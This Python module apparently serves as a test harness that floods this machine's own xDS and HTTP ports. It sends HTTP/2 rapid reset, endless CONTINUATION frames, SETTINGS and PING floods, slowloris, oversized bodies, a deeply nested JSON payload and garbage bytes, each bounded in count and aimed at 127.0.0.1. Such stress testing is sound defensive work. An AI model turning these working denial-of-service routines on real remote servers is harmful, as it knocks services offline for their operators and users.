"""Attacks on ports of this machine, bounded in count: HTTP/2 written frame by frame, and plain floods."""

import asyncio
from collections.abc import AsyncIterator, Callable, Coroutine, Mapping
from contextlib import asynccontextmanager, suppress
from typing import Any

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

Attack = Callable[[int], Coroutine[Any, Any, None]]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEAD = Encoder().encode(
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ],
    huffman=False,
)
_LARGE = Encoder().encode([(f"x-{number}", "y" * 1000) for number in range(100)], huffman=False)


@asynccontextmanager
async def _connection(port: int, sent: bytes = b"") -> AsyncIterator[asyncio.StreamWriter]:
    """Open a connection, and throw away what comes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    throwing_away = asyncio.create_task(_throw_away(reader))
    writer.write(sent)
    try:
        yield writer
    finally:
        throwing_away.cancel()
        await asyncio.gather(throwing_away, return_exceptions=True)
        writer.transport.abort()


async def _throw_away(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


def _headers(stream: int, block: bytes = _HEAD, *, end: bool = True) -> HeadersFrame:
    return HeadersFrame(stream, block, flags=["END_HEADERS"] if end else [])


def _http2(frames: Callable[[int], list[Frame]], *, connections: int, each: int) -> Attack:
    """Send so many groups of frames on each of some connections, one after the other.

    The server may close a connection whenever it has enough. ``frames`` is given odd stream ids.
    """

    async def attack(port: int) -> None:
        for _ in range(connections):
            with suppress(ConnectionError):
                async with _connection(port, _PREFACE + SettingsFrame(0).serialize()) as writer:
                    for number in range(each):
                        writer.write(b"".join(frame.serialize() for frame in frames(2 * number + 1)))
                        await writer.drain()
                        if number % 100 == 0:
                            await asyncio.sleep(0)

    return attack


async def _slow_http2(port: int) -> None:
    """Hold connections that say only the beginning of the preface, then nothing."""
    async with asyncio.TaskGroup() as tasks:
        for number in range(200):
            tasks.create_task(_hold(port, _PREFACE[: number % len(_PREFACE)]))


async def _slowloris(port: int) -> None:
    async with asyncio.TaskGroup() as tasks:
        for _ in range(600):
            tasks.create_task(_hold(port, b"POST /v3/discovery:clusters HTTP/1.1\r\nhost: localhost\r\nx: "))


async def _hold(port: int, sent: bytes, seconds: float = 3.0) -> None:
    with suppress(ConnectionError):
        async with _connection(port, sent) as writer:
            for _ in range(int(seconds * 10)):
                await asyncio.sleep(0.1)
                writer.write(sent[:1])
                await writer.drain()


def _requests(request: bytes, *, connections: int, each: int) -> Attack:
    """Send requests on some connections at once, as fast as they are taken; the answers are thrown away."""

    async def one(port: int) -> None:
        with suppress(ConnectionError):
            async with _connection(port) as writer:
                for _ in range(each):
                    writer.write(request)
                    await writer.drain()

    async def attack(port: int) -> None:
        async with asyncio.TaskGroup() as tasks:
            for _ in range(connections):
                tasks.create_task(one(port))

    return attack


async def _large_bodies(port: int) -> None:
    """Send bodies of 8 MB in all connections at once, all but their ends."""
    head = b"POST /v3/discovery:clusters HTTP/1.1\r\nhost: localhost\r\ncontent-length: 8000001\r\n\r\n"

    async def one() -> None:
        with suppress(ConnectionError):
            async with _connection(port, head) as writer:
                for _ in range(80):
                    writer.write(b"x" * 100_000)
                    await writer.drain()
                await asyncio.sleep(1)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(40):
            tasks.create_task(one())


def _post(path: str, body: bytes) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: {len(body)}\r\n\r\n"
    return head.encode() + body


XDS: Mapping[str, Attack] = {
    "rapid reset": _http2(
        lambda stream: [_headers(stream), RstStreamFrame(stream, 8)], connections=4, each=5_000
    ),
    "streams without end": _http2(lambda stream: [_headers(stream)], connections=4, each=3_000),
    "settings": _http2(lambda _: [SettingsFrame(0, {4: 65_535})], connections=4, each=5_000),
    "pings": _http2(lambda _: [PingFrame(0, b"12345678")], connections=4, each=5_000),
    "empty data": _http2(
        lambda stream: [_headers(1)] if stream == 1 else [DataFrame(1, b"")], connections=4, each=5_000
    ),
    "continuations without end": _http2(
        lambda stream: (
            [_headers(1, _LARGE[:8_000], end=False)]
            if stream == 1
            else [ContinuationFrame(1, _LARGE[:8_000])]
        ),
        connections=4,
        each=500,
    ),
    "large heads": _http2(
        lambda stream: [_headers(stream, _HEAD + _LARGE[:16_000])], connections=4, each=500
    ),
    "window updates and priorities": _http2(
        lambda stream: [WindowUpdateFrame(0, 1), PriorityFrame(stream, depends_on=stream)],
        connections=4,
        each=5_000,
    ),
    "garbage": _requests(b"\xff" * 10_000, connections=50, each=10),
    "half a preface": _slow_http2,
}
"""Against the xDS port."""

HTTP: Mapping[str, Attack] = {
    "slowloris": _slowloris,
    "connections": _requests(b"", connections=1_000, each=1),
    "requests": _requests(b"GET /ready HTTP/1.1\r\nhost: localhost\r\n\r\n", connections=50, each=100),
    "metrics": _requests(b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n", connections=20, each=10),
    "discovery": _requests(
        _post("/v3/discovery:clusters", b'{"node": {"id": "flood", "cluster": "edge"}}'),
        connections=20,
        each=50,
    ),
    "lint": _requests(
        _post("/api/v1/lint", b'{"name": "a.yaml", "text": "' + b"[" * 100_000 + b'"}'), connections=8, each=5
    ),
    "large bodies": _large_bodies,
    "garbage": _requests(b"\xff" * 10_000, connections=50, each=10),
    "upgrades": _requests(
        b"GET / HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n",
        connections=20,
        each=20,
    ),
}
"""Against the HTTP port."""
